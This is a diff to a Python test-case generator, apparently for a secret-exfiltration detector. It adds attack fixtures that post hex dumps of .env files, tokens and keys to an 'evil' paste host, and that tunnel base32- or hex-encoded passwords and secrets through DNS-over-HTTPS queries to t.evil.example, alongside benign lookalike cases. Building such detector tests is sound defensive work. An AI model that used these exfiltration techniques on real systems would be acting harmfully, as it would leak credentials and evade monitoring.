@@ -172,6 +172,36 @@ def _multipart(parts: list[tuple[str, str | None, bytes, dict[str, str]]], bound
     return out + f"--{boundary}--\r\n".encode()
 
 
+def _shown(chunk: bytes) -> str:
+    return "".join(chr(b) if 0x20 <= b < 0x7F else "." for b in chunk)
+
+
+def _xxd(data: bytes) -> str:
+    """What ``xxd`` prints: offset, two-byte groups, the bytes as text."""
+    return "".join(f"{at:08x}: {' '.join(data[i:i + 2].hex() for i in range(at, min(at + 16, len(data)), 2)):<39}"
+                   f"  {_shown(data[at:at + 16])}\n" for at in range(0, len(data), 16))
+
+
+def _hexdump_c(data: bytes) -> str:
+    """What ``hexdump -C`` prints: offset, two halves of eight bytes, the text between bars."""
+    lines = [f"{at:08x}  {' '.join(f'{b:02x}' for b in data[at:at + 8]):<23}  "
+             f"{' '.join(f'{b:02x}' for b in data[at + 8:at + 16]):<23}  |{_shown(data[at:at + 16])}|\n"
+             for at in range(0, len(data), 16)]
+    return "".join(lines) + f"{len(data):08x}\n"
+
+
+def _xxd_p(data: bytes) -> str:
+    """What ``xxd -p`` prints: plain hex, 60 columns a line."""
+    text = data.hex()
+    return "".join(text[i:i + 60] + "\n" for i in range(0, len(text), 60))
+
+
+def _dns_query(name: str, qtype: int = 1) -> bytes:
+    """A DNS query message (RFC 1035 wire format) for ``name``, as DNS over HTTPS sends one."""
+    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
+    return b"\x4a\x21\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + qtype.to_bytes(2, "big") + b"\x00\x01"
+
+
 def _b32(data: bytes) -> str:
     return base64.b32encode(data).decode().rstrip("=").lower()
 
@@ -434,6 +464,29 @@ def attacks(rng: random.Random) -> list[Case]:
     add("websocket", "base64 key in a message", ("VENDOR_API_KEY",),
         websocket=json.dumps({"b": base64.b64encode(vendor.encode()).decode()}))
     add("websocket", "token format in a message", ("slack-token",), websocket=f"post {f.slack()}")
+
+    # -- hex dumps (``xxd``, ``hexdump -C``, ``xxd -p`` of compressed bytes) ----------------------
+    env = f"# local settings\nexport DB_PASSWORD={db}\nexport REGION=eu-west-1\n".encode()
+    add("hexdump", "xxd of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste",
+        headers=(("Content-Type", "text/plain"),), body=_xxd(env).encode())
+    add("hexdump", "hexdump -C of a token in a JSON field", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/j",
+        headers=(JSON,), body=_json({"debug": _hexdump_c(f"token={gh}\n".encode())}))
+    add("hexdump", "gzip | xxd -p of a .env file", ("DB_PASSWORD",), method="POST", url=f"{evil}/paste",
+        headers=(("Content-Type", "text/plain"),), body=_xxd_p(gzip.compress(env, mtime=0)).encode())
+    add("hexdump", "gzip | xxd of a key", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/paste",
+        body=_xxd(gzip.compress(f"key: {vendor}\n".encode(), mtime=0)).encode())
+
+    # -- names asked of a public resolver over HTTPS (DNS over HTTPS, JSON APIs) ------------------
+    db32 = _b32(db.encode())
+    add("dns-over-https", "GET ?dns= with base32 of the password in two labels", ("DB_PASSWORD",),
+        url="https://dns.google/dns-query?dns=" + _b64url(_dns_query(f"{db32[:24]}.{db32[24:]}.t.evil.example")))
+    vhex = vendor.encode().hex()
+    add("dns-over-https", "POST application/dns-message with hex labels", ("VENDOR_API_KEY",), method="POST",
+        url="https://cloudflare-dns.com/dns-query", headers=(("Content-Type", "application/dns-message"),),
+        body=_dns_query(f"{vhex[:32]}.{vhex[32:]}.t.evil.example"))
+    s32 = _b32(signing.encode())
+    add("dns-over-https", "resolver JSON API ?name= with base32 labels", ("SIGNING_SECRET",),
+        url=f"https://dns.google/resolve?name={s32[:30]}.{s32[30:]}.t.evil.example&type=TXT")
     return out
 
 
@@ -677,6 +730,19 @@ def benign(rng: random.Random) -> list[Case]:
         body=json.dumps({"body": "Ship it \U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F"},
                         ensure_ascii=False).encode())
     add("api-json", "WebDAV listing", method="PROPFIND", url="https://dav.example.com/files/", headers=(("Depth", "1"),))
+    add("lookalike", "hex dump of a binary in a bug report", method="POST", url="https://api.github.com/repos/org/repo/issues",
+        headers=(JSON,), body=_json({"title": "parser fails on this file", "body": "xxd output:\n```\n"
+                                     + _xxd(b"\x89PNG\r\n\x1a\n" + rng.randbytes(300)) + "```\n"
+                                     + "and `hexdump -C` of the header:\n" + _hexdump_c(rng.randbytes(64))}))
+    add("lookalike", "xxd -p of a compressed build log", method="POST", url="https://ci.example.org/v1/artifacts",
+        headers=(("Content-Type", "text/plain"),),
+        body=_xxd_p(gzip.compress(b"".join(b"step %d ok in %d ms\n" % (i, i * 7) for i in range(200)), mtime=0)).encode())
+    add("dns-over-https", "DNS over HTTPS lookup of a registry",
+        url="https://dns.google/dns-query?dns=" + _b64url(_dns_query("registry.npmjs.org", 28)))
+    add("dns-over-https", "resolver JSON API lookup", url="https://dns.google/resolve?name=objects.githubusercontent.com&type=A")
+    add("dns-over-https", "DNS over HTTPS POST of an ACME challenge name", method="POST",
+        url="https://cloudflare-dns.com/dns-query", headers=(("Content-Type", "application/dns-message"),),
+        body=_dns_query("_acme-challenge.build-7d9f8b6c5d.example.org", 16))
     return out
 
 
